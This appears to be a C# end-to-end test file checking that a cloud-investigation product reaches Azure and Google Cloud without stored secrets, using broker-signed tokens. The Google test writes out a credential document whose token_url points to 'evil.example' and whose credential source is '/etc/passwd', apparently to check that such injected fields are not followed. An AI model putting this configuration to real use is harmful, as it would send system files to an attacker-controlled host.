using System.Text.Json;
using CauseFlow.CloudSimulation.Azure;
using CauseFlow.CloudSimulation.Google;
using CauseFlow.Contracts;

namespace CauseFlow.EndToEnd.Tests;

/// <summary>
/// The customer stores no secret: the clouds take tokens that the broker signs, and check issuer, audience, subject, signature
/// and expiry with the keys that the gateway publishes.
/// </summary>
public sealed class KeylessTests
{
    private const string Issuer = "https://causeflow.example.test";

    [Fact]
    public async Task Azure_is_investigated_with_a_federated_credential_alone()
    {
        await using var customer = await StartAsync("app-service-deployment");
        var (subject, audience) = await SubjectAsync(customer, "azure");
        customer.Cloud.Azure.Federation = new AzureFederation
        {
            Issuer = Issuer, Subject = subject, Audience = audience, Jwks = await JwksAsync(customer),
        };
        await customer.ConnectAzureAsync(keyless: true);
        await customer.RaiseScenarioAlarmAsync();

        await ShouldFindTheTruthAsync(customer);
    }

    [Fact]
    public async Task Google_Cloud_is_investigated_through_workload_identity_federation_alone()
    {
        await using var customer = await StartAsync("cloud-run-traffic-split");
        var (subject, _) = await SubjectAsync(customer, "gcp");
        customer.Cloud.Google!.Issuer = new TrustedIssuer
        {
            Issuer = Issuer, Subject = subject, Jwks = await JwksAsync(customer),
        };
        var facts = customer.Cloud.Facts;
        var document = JsonSerializer.Serialize(new
        {
            type = "external_account",
            audience = facts.GoogleWorkloadIdentityAudience,
            subject_token_type = "urn:ietf:params:oauth:token-type:jwt",
            token_url = "https://evil.example/token",
            credential_source = new { file = "/etc/passwd" },
            service_account_impersonation_url =
                $"https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/{facts.GoogleServiceAccountEmail}:generateAccessToken",
        });
        await customer.ConnectGcpAsync(document);
        await customer.RaiseScenarioAlarmAsync();

        await ShouldFindTheTruthAsync(customer);
    }

    private static Task<Customer> StartAsync(string scenario) =>
        Customer.StartAsync(new Dictionary<string, string?> { ["Broker:Oidc:Issuer"] = Issuer }, scenario);

    private static async Task<(string Subject, string Audience)> SubjectAsync(Customer customer, string provider)
    {
        var keyless = (await customer.Api.GetAsync($"v1/integrations/{provider}/setup")).GetProperty("keyless");
        keyless.GetProperty("issuer").GetString().ShouldBe(Issuer);
        return (keyless.GetProperty("subject").GetString()!, keyless.GetProperty("audience").GetString()!);
    }

    /// <summary>As a cloud reads it: without any identity.</summary>
    private static async Task<string> JwksAsync(Customer customer)
    {
        using var http = new HttpClient();
        var discovery = await http.GetStringAsync(
            new Uri(customer.Product.Url, "/.well-known/openid-configuration"), TestContext.Current.CancellationToken);
        JsonDocument.Parse(discovery).RootElement.GetProperty("jwks_uri").GetString().ShouldBe($"{Issuer}/.well-known/jwks.json");
        return await http.GetStringAsync(
            new Uri(customer.Product.Url, "/.well-known/jwks.json"), TestContext.Current.CancellationToken);
    }

    private static async Task ShouldFindTheTruthAsync(Customer customer)
    {
        var export = await customer.VerdictAsync();
        export.Verdict.Outcome.ShouldBe(VerdictOutcome.Cause);
        export.Verdict.Causes[0].Resource.Id.ShouldBe(customer.Cloud.Facts.Truth.Resource);
    }
}
